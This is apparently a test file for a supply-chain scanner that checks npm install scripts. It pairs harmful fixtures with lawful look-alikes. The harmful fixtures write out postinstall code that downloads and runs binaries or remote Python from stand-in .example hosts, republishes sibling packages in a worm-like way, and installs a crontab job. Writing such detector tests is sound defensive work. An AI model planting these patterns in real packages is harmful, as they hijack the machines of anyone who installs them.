// What an install does by itself: worse than on request, and told although the way is not seen in full.
import { Buffer } from 'node:buffer';
import { expect, test } from 'vitest';
import { analyzePackage } from '../../../../src/analyze/source/package.ts';

const install = (script: string, more: object = {}) =>
  JSON.stringify({ name: 'text-split', scripts: { postinstall: script }, ...more });
const worst = (files: Record<string, string>): string[] =>
  analyzePackage({
    name: 'text-split',
    version: '1.0.0',
    integrity: null,
    isSubject: true,
    notRead: [],
    files: Object.entries({ 'index.js': 'export {};', ...files }).map(([path, content]) => {
      const bytes = Buffer.from(content);
      return { path, bytes, size: bytes.length, sha256: '0'.repeat(64) };
    }),
  })
    .threats.filter(({ severity }) => severity === 'high' || severity === 'critical')
    .map(({ ruleId, severity }) => `${severity} ${ruleId}`);

const DOWNLOAD = (url: string, more = '') => `const https = require('https'), fs = require('fs');
  const bin = require('path').join(__dirname, '..', 'vendor', 'tool');
  ${more}
  https.get('${url}', (res) => {
    res.pipe(fs.createWriteStream(bin, { mode: 0o755 })).on('close', () =>
      require('child_process').spawn(bin, [], { detached: true, stdio: 'ignore' }).unref());
  });`;

const HARMFUL: [string, string, Record<string, string>][] = [
  [
    'a program from a host that only sounds like the package',
    'critical download-and-execute',
    {
      'package.json': install('node tools/get.cjs'),
      'tools/get.cjs': DOWNLOAD('https://bin.split-cdn.example/tool'),
    },
  ],
  [
    'a program whose way from one file to the other is not seen',
    'critical download-and-execute',
    {
      'package.json': install('node tools/setup.mjs', { type: 'module' }),
      'tools/setup.mjs': `import { Fetcher } from './fetcher.mjs'; import { Runner } from './runner.mjs';
        const file = await new Fetcher('https://builds.accel.example').get('accel');
        new Runner(file).start();`,
      'tools/fetcher.mjs': `import fs from 'node:fs/promises'; import os from 'node:os'; import path from 'node:path';
        export class Fetcher { constructor(base) { this.base = base; }
          async get(name) { const res = await fetch(this.base + '/' + name);
            const file = path.join(os.homedir(), '.cache', name);
            await fs.writeFile(file, Buffer.from(await res.arrayBuffer())); return file; } }`,
      'tools/runner.mjs': `import { spawn } from 'node:child_process';
        export class Runner { constructor(file) { this.file = file; } start() { spawn(this.file, []); } }`,
    },
  ],
  [
    'an address in pieces, and a start that nobody waits for',
    'critical download-and-execute',
    {
      'package.json': install('node vars.js'),
      'vars.js': `const cp = require('child_process');
        const url = ['https:/', 'cdn.build.example', process.platform].join('/');
        const out = require('os').tmpdir() + '/hw';
        cp.execFileSync('curl', ['-sL', url, '-o', out]);
        cp.spawn(out, { detached: true, stdio: 'ignore' }).unref();`,
    },
  ],
  [
    'publishing through a helper',
    'critical self-propagation',
    {
      'package.json': install('node after.js'),
      'after.js': `const { spawnSync } = require('child_process');
        const npm = (args, cwd) => spawnSync(process.platform === 'win32' ? 'npm.cmd' : 'npm', args, { cwd });
        for (const dir of require('fs').readdirSync(process.env.INIT_CWD + '/packages')) npm(['publish', '--access', 'public'], dir);`,
    },
  ],
  [
    'publishing through a helper that adds words of its own',
    'critical self-propagation',
    {
      'package.json': install('node after.js'),
      'after.js': `const { execFileSync } = require('child_process');
        const npm = (args, cwd) => execFileSync('npm', [...args, '--registry', 'https://registry.example/'], { cwd });
        npm(['version', 'patch'], '/x'); npm(['publish', '--ignore-scripts'], '/x');`,
    },
  ],
  [
    'publishing unless the other package has an install script',
    'critical self-propagation',
    {
      'package.json': install('node link.cjs'),
      'link.cjs': `const fs = require('fs'); const { spawnSync } = require('child_process');
        function link(dir) { const pkg = JSON.parse(fs.readFileSync(dir + '/package.json', 'utf8'));
          if (pkg.private || pkg.scripts?.install) return;
          spawnSync('npm', ['publish'], { cwd: dir }); }
        for (const one of fs.readdirSync('packages')) link('packages/' + one);`,
    },
  ],
  [
    'publishing in the line itself',
    'critical package-publish',
    { 'package.json': install('npm version patch && npm publish') },
  ],
  [
    'a job that stays',
    'critical autostart-write',
    {
      'package.json': install('node cron.cjs'),
      'cron.cjs': `require('child_process').execSync('crontab -', { input: '*/30 * * * * node ~/.x/sync.js' });`,
    },
  ],
  [
    'a package that is named nowhere',
    'high runtime-install',
    { 'package.json': install('npx --yes bootstrap-helper@latest && npm i -g helper-agent') },
  ],
  [
    'packages from another index',
    'high runtime-install',
    {
      'package.json': install(
        'pip3 install --quiet --index-url https://pypi.mirror.example/simple tagger',
      ),
    },
  ],
  [
    'a fetched program in a line of another language',
    'critical download-and-execute',
    {
      'package.json': install('node py.cjs'),
      'py.cjs': `require('child_process').spawnSync('python3', ['-c', "import urllib.request as u;exec(u.urlopen('https://runtime.example/r.py').read())"]);`,
    },
  ],
];

test.each(HARMFUL)('%s is reported', (_, told, files) => {
  expect(worst(files)).toContain(told);
});

test.each<[string, Record<string, string>]>([
  [
    'a program that a digest of the package holds',
    {
      'package.json': install('node tools/get.cjs'),
      'tools/get.cjs': DOWNLOAD(
        'https://bin.split-cdn.example/tool',
        `const sum = '${'0a'.repeat(32)}'; const hash = require('crypto').createHash('sha256');`,
      ),
    },
  ],
  [
    'a program of a release of its own',
    {
      'package.json': install('node tools/get.cjs', {
        repository: 'https://github.com/ida/text-split',
      }),
      'tools/get.cjs': DOWNLOAD(
        'https://github.com/ida/text-split/releases/download/v1.0.0/tool',
      ).replace('detached: true, ', ''),
    },
  ],
  [
    'a download, and a tool of the machine',
    {
      'package.json': install('node tools/get.cjs'),
      'tools/get.cjs': `const fs = require('fs');
        fetch('https://words.split-cdn.example/list.txt').then(async (res) =>
          fs.writeFileSync(__dirname + '/list.txt', await res.text()));
        require('child_process').execFileSync('node-gyp', ['rebuild']);`,
    },
  ],
  [
    'a release by hand',
    {
      'package.json': JSON.stringify({ name: 'text-split', scripts: { release: 'node rel.js' } }),
      'rel.js': `const { spawnSync } = require('child_process');
        const npm = (args) => spawnSync('npm', args, { stdio: 'inherit' });
        npm(['version', 'patch']); npm(['publish', '--provenance']);`,
    },
  ],
  [
    'what a checkout sets itself up with',
    { 'package.json': install('npx only-allow pnpm && npx patch-package') },
  ],
  [
    'a dependency that is started',
    {
      'package.json': install('npx -y acme-tool setup', { dependencies: { 'acme-tool': '1.0.0' } }),
    },
  ],
  [
    'packages from the usual index',
    { 'package.json': install('pip3 install --index-url https://pypi.org/simple tagger==1.0.0') },
  ],
])('%s is lawful', (_, files) => {
  expect(worst(files)).toEqual([]);
});
